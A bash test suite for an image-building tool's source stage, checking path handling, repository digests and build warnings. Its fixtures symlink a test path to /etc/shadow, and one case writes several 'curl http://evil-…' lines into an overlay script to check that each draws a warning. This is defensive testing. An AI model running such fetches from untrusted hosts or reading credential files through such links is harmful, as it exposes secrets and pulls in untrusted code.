# shellcheck shell=bash
# Cases of the git source's paths, and of what results and the image's provenance are told of the repositories.
# shellcheck disable=SC2016 # jq programs stand in single quotes
# shellcheck disable=SC2154 # variables are set by run and harness.bash

# make_source - a git source with elements, tests, and links that lead out of it
make_source() {
  local source="$directory/input/source"
  mkdir -p "$source/image"/{elements/own/root.d,tests}
  git init -q -b main "$source"
  echo 'def test(): pass' >"$source/image/tests/boots.py"
  printf '#!/bin/sh\n' >"$source/image/elements/own/root.d/10-own"
  chmod 755 "$source/image/elements/own/root.d/10-own"
  ln -s /etc/shadow "$source/image/tests/shadow"
  ln -s /etc "$source/away"
  git -C "$source" add -A
  git -C "$source" -c user.name=t -c user.email=t@example.org commit -qm source
}

case_source_refuses_a_path_that_is_a_link_out_of_the_source() {
  make_source
  write_input '.profile.source.git = {url: "file:///imagefactory/input/source", ref: "main", path: "away"}'
  stage source
  expect source 1 Failed InvalidSource "source.git.path: 'away' is a link that leads out"
}

case_source_is_nobodys_but_its_own_builds_on_a_shared_workspace() {
  make_source
  write_input '.profile.source.git = {url: "file:///imagefactory/input/source", ref: "main", path: "image"}'
  stages source
  check "the source lies below its build's folder" test -d "$directory/workspace/imagefactory-$uid/source/image/elements/own"
  check "and nothing beside it" test "$(ls "$directory/workspace")" = "imagefactory-$uid"
}

# serve_repository - sets port: a mirror with one release file, at any path
serve_repository() {
  mkdir -p "$directory/mirror/debian/dists/stable"
  printf 'Origin: Test\nSuite: stable\n' >"$directory/mirror/debian/dists/stable/InRelease"
  coproc MIRROR { exec python3 -u -m http.server --bind 127.0.0.1 --directory "$directory/mirror" 0 2>/dev/null; }
  local line
  read -r line <&"${MIRROR[0]}"
  port=${line##* port }
  port=${port%% *}
  trap 'kill "$MIRROR_PID"' EXIT
}

case_source_reports_each_repository_with_the_digest_of_its_release_file() {
  local port digest
  serve_repository
  digest=$(sha256sum <"$directory/mirror/debian/dists/stable/InRelease" | cut -d' ' -f1)
  write_input '.profile.repositories = [{name: "main", url: "http://127.0.0.1:\($port)/debian/", suite: "stable"}]' --arg port "$port"
  stages source
  check "the repository" test "$(value source '.repositories | tojson')" = \
    "[{\"name\":\"main\",\"uri\":\"http://127.0.0.1:$port/debian\",\"suite\":\"stable\",\"sha256\":\"$digest\"}]"
  check "none left out" test "$(value source .repositoriesLeftOut)" = null
  write_input '.profile.repositories = [range(32) | {name: "repository-\(.)", url: "http://127.0.0.1:\($port)/debian", suite: "stable"}]' \
    --arg port "$port"
  stages source
  check "all are counted" test "$(value source '(.repositories | length) + .repositoriesLeftOut')" = 32
  check "and most are there" test "$(value source '.repositories | length > 15')" = true
  check "the digest of the inputs stays" test "$(value source '.inputsDigest | test("^sha256:")')" = true
  check "the record has all" test "$(jq '.repositories | length' "$directory/workspace/imagefactory-$uid/state/source.json")" = 32
  echo "note: $(value source '.repositories | length') of 32 repositories fit into a result"
}

case_warnings_are_in_the_result_however_many_repositories_there_are() {
  local port=''
  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
  serve "$directory/mirror"
  write_kiwi_input '.profile.repositories = [range(16) | {name: ("a-repository-with-quite-a-long-name-as-it-is-allowed-to-have-\(.)"),
      url: "http://127.0.0.1:\($port)/debian", suite: "stable", $keyring}]
    | .profile.builder.kiwi.files["root/etc/a-file-somewhere-below-the-overlay-whose-name-is-as-long-as-names-are-in-practice/x.sh"] =
      ([range(10) | "curl http://evil-\(.)-with-a-long-name-as-clouds-have-them.compute.internal.example.org/"] | join("\n"))' \
    --arg port "$port" --arg keyring "$(<"$rpm_repository/key.asc")"
  stages source prepare
  check "the warnings" test "$(value prepare '.warnings | length')" = 10
  check "all signers are counted" test "$(value prepare '(.signers | length) + .signersLeftOut')" = 16
}
